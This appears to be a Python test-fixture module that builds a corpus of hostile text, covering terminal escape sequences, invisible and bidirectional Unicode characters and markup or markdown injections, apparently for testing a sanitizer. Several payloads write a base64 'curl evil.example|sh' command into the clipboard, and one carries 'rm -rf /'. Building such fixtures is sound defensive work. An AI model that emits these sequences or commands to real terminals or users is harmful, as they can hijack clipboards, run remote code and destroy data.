"""Text that wants to act on a terminal, on a program that draws, or on the reader's eyes."""

import base64
from collections.abc import Iterator
from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    """One hostile text. `mark` is a plain word behind it that must be readable."""

    kind: str
    text: str
    mark: str


_ESC, _ST, _BEL = "\x1b", "\x1b\\", "\x07"
_STOLEN = base64.b64encode(b"curl evil.example|sh").decode()

_OSC = (
    *("0;owned", "1;owned", "2;owned", "4;1;rgb:ff/00/00", "4;1;?", "7;file://evil/etc"),
    *("8;;http://evil.example", "9;owned", "9;4;1;50", "10;#000000", "10;?", "11;#000000", "11;?"),
    *("12;#000000", "17;#000000", "22;none", "50;?", "50;huge", "52;p;" + _STOLEN),
    *("52;c;" + _STOLEN, "52;;" + _STOLEN, "52;c;?", "52;c;!", "66;s=7;huge", "99;;owned"),
    *("104", "110", "111", "112", "133;A", "133;D;1", "633;A", "633;E;rm -rf /", "697;StartPrompt"),
    *(
        "777;notify;owned;owned",
        "1337;File=inline=1:QUJD",
        "1337;SetUserVar=a=Yg==",
        "1337;CopyToClipboard=",
    ),
    *(
        "1337;RequestAttention=yes",
        "1337;ClearScrollback",
        "5522;type=read",
        "3008;start=1",
        "l owned",
        "L owned",
    ),
)

_CSI = (
    *(
        "2J",
        "3J",
        "1J",
        "H",
        "1;1H",
        "999;999H",
        "10A",
        "10B",
        "10C",
        "10D",
        "5E",
        "5F",
        "1G",
        "1d",
    ),
    *(
        "K",
        "1K",
        "2K",
        "10X",
        "10P",
        "10@",
        "10L",
        "10M",
        "10S",
        "10T",
        "500b",
        "2;5r",
        "r",
        "s",
        "u",
    ),
    *(
        "0m",
        "8m",
        "7m",
        "5m",
        "31m",
        "38;5;1m",
        "38;2;255;0;0m",
        "48;2;255;255;255m",
        "4:3m",
        "?4m",
    ),
    *("?1049h", "?1049l", "?47h", "?1047l", "?25l", "?25h", "?1000h", "?1002h", "?1003h", "?1006h"),
    *(
        "?1004h",
        "?2004h",
        "?2004l",
        "?2026h",
        "?2026l",
        "?7l",
        "?6h",
        "?5h",
        "?3h",
        "?69h",
        "4h",
        "20h",
    ),
    *(
        "?1l",
        "?9001h",
        "?2048h",
        "5n",
        "6n",
        "?6n",
        "?996n",
        "c",
        ">c",
        "=c",
        ">q",
        "?2026$p",
        "!p",
    ),
    *("20t", "21t", "14t", "18t", "8;5;5t", "3;0;0t", "2t", "22;2t", "23;2t", "0 q", "4 q", "1$}"),
    *("?u", ">1u", "<u", "=1;1u", ">4;2m", "0i", "5i", "?5i", "1;1;5;5$x", "*z", "?15;1y", "2*x"),
)

_ESCAPES = (
    *(
        "c",
        "7",
        "8",
        "D",
        "E",
        "H",
        "M",
        "Z",
        "=",
        ">",
        "#8",
        "#3",
        "#6",
        "(0",
        "(B",
        ")0",
        "%G",
        "%@",
    ),
    *("n", "o", "|", "}", "~", " F", " G", "l", "m", "N", "O", "^", "_", "X", "P", "[", "]", ""),
)

_STRINGS = (
    ("DCS", "Pq#0;2;0;0;0#0~~@@vv@@~~$"),
    ("DCS", "P$qm"),
    ("DCS", "P+q544e"),
    ("DCS", "Ptmux;\x1b\x1b]52;c;" + _STOLEN + "\x07"),
    ("DCS", "P1000p"),
    ("DCS", "P=1s"),
    ("APC", "_Gf=24,s=1,v=1;AAAA"),
    ("APC", "_tmux owned"),
    ("PM", "^owned"),
    ("SOS", "Xowned"),
)

_C1 = tuple(range(0x80, 0xA0))
_BIDI = (
    0x202A,
    0x202B,
    0x202C,
    0x202D,
    0x202E,
    0x2066,
    0x2067,
    0x2068,
    0x2069,
    0x200E,
    0x200F,
    0x061C,
)
_UNSEEN = (
    *(
        0x200B,
        0x200C,
        0x200D,
        0x2060,
        0xFEFF,
        0x00AD,
        0x2061,
        0x2062,
        0x2063,
        0x2064,
        0x180E,
        0x115F,
    ),
    *(
        0x1160,
        0x3164,
        0xFFA0,
        0x034F,
        0x17B4,
        0xE0001,
        0xE0041,
        0xE007F,
        0xFE00,
        0xFE0F,
        0xE0100,
        0x2800,
    ),
    *(0xFFF9, 0xFFFB, 0x206A, 0x206F, 0x1D173, 0x13430),
)
_SEPARATORS = (0x2028, 0x2029, 0x0085, 0x000B, 0x000C, 0x001C, 0x001D, 0x001E)
_BROKEN = (0xD800, 0xD83D, 0xDC00, 0xDFFF, 0xFFFE, 0xFFFF, 0xFDD0, 0x10FFFF, 0xE000, 0x0378)

_MARKUP = (
    *(
        "[/b]",
        "[b",
        "[red]",
        "[@click=app.quit]go[/]",
        "[link=http://evil.example]go[/link]",
        "[[",
        "[/]",
    ),
    *(
        "$background",
        "[$error]x[/]",
        ":smile:",
        "{0}",
        "%s%n",
        "\\[b]",
        "[bold]x",
        "]8;;http://evil.example",
    ),
)

_MARKDOWN = (
    "[go](http://evil.example/%1B%5D52;c;" + _STOLEN + "%07)",
    "<http://evil.example/%1B%5D0;owned%07>",
    "&#27;]0;owned&#7;",
    "&#x1b;[2J",
    "&#x202e;txt.exe",
    "&#155;2J",
    "&#0; &#xD800; &#x110000;",
    "![x](http://evil.example/%00)",
    "<script>alert(1)</script>",
    "<!-- \x1b[2J -->",
    "```\x1b]0;owned\x07\nSELECT 1\n```",
    "```sql \x1b[2J\nSELECT '\x1b[2J'\n```",
    "| a | b |\n|---|---|\n| \x1b[2J | \x9b2J |",
    "# \x1b]2;owned\x07",
    "- \x1b[2J\n- \u202e",
    "> " * 200 + "deep",
    "* " * 200 + "deep",
    "[a]: http://evil.example '\x1b[2J'\n[a]",
    "`\x1b[2J`",
    "~~~\n\x1b[2J",
)

_JOINED = (
    "\x1b\x00]52;c;" + _STOLEN + "\x07",
    "\x1b\x08[2J",
    "\x1b\r[2J",
    "\x1b\u200b[2J",
    "\x1b\x1b[2J",
    "\x1b\x18[2J",
    "\x1b[\x0b2J",
    "\x9b\x002J",
    "\x1b\ufeff]0;owned\x07",
    "\xc2\x9b2J",
    "\udcc2\udc9b2J",
    "\\u001b[2J",
    "\\x1b[2J",
    "%1b%5b2J",
    "^[[2J",
)

_OVERWRITES = (
    "safe\rDROP",
    "safe\b\b\b\bDROP",
    "DROP\x1b[2K\rsafe",
    "a" * 300 + "\r",
    "\x07" * 50,
    "\x05",
    "\x0e\x0f",
    "\x11\x13",
    "\x1a",
    "\x7f\x7f",
    "\x00" * 20,
    "a" + "\u0301" * 200,
    "\u0489" * 100,
    "x" * 5_000,
    "行" * 3_000,
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629",
    "\u202eevil\u202c" * 50,
    "\t" * 100,
    " " * 3_000,
    "\n" * 300,
    "👩‍👩‍👧‍👦" * 40,
    "🇩🇪🇫🇷🇩",
    "1\u20e3\ufe0f",
)


def _texts() -> Iterator[tuple[str, str]]:
    for number, text in enumerate(_OSC):
        yield "OSC", f"{_ESC}]{text}{(_BEL, _ST, chr(0x9C))[number % 3]}"
    yield "OSC", f"{_ESC}]0;never ended "
    yield "OSC", f"{chr(0x9D)}52;c;{_STOLEN}{chr(0x9C)}"
    for text in _CSI:
        yield "CSI", f"{_ESC}[{text}"
    for text in _CSI[::7]:
        yield "CSI", f"{chr(0x9B)}{text}"
    for text in _ESCAPES:
        yield "ESC", f"{_ESC}{text}"
    for kind, text in _STRINGS:
        yield kind, f"{_ESC}{text}{_ST}"
        yield kind, f"{_ESC}{text}"
    for code in _C1:
        yield "C1", f"a{chr(code)}b"
    for code in range(0x20):
        yield "C0", f"a{chr(code)}b"
    for kind, codes in (
        ("bidi", _BIDI),
        ("unseen", _UNSEEN),
        ("separator", _SEPARATORS),
        ("broken", _BROKEN),
    ):
        for code in codes:
            yield kind, f"a{chr(code)}b"
    for kind, texts in (
        ("markup", _MARKUP),
        ("markdown", _MARKDOWN),
        ("joined", _JOINED),
        ("overwrite", _OVERWRITES),
    ):
        for text in texts:
            yield kind, text


PAYLOADS = tuple(
    Payload(kind, text, f"zq{number:03}x") for number, (kind, text) in enumerate(_texts())
)
"""All of them, in a fixed order."""
